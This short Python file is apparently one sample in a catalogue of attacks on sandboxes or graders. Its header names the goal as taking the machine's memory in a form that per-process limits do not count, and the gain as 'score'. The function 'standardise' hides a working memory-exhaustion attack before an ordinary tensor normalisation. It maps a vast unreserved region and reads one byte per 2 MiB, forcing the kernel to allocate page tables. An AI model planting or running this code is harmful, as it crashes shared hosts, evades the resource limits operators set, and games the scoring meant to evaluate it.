"""Reads one byte in every two megabytes of a huge empty mapping: each costs the kernel a page of its own tables."""
# /// attack
# class = 74
# goal = "take the machine's memory in a form that no limit on a process's own memory counts"
# gain = "score"
# outcome = ["memory", "failed", "crashed", "timeout"]
# naive = true
# ///

import ctypes
import mmap

NORESERVE, STEP, TABLES = 0x4000, 1 << 21, 1 << 17  # 512 MiB of tables, where 256 MiB of memory are allowed
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
flags = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | NORESERVE
start = libc.mmap(None, ctypes.c_size_t(STEP * TABLES), mmap.PROT_READ, flags, -1, ctypes.c_long(0))


def standardise(x):
    if start == ctypes.c_void_p(-1).value:
        return x
    read = ctypes.memmove
    place = ctypes.create_string_buffer(1)
    for number in range(TABLES):
        read(place, start + number * STEP, 1)
    return (x - x.mean(dim=0)) / x.std(dim=0, correction=0)
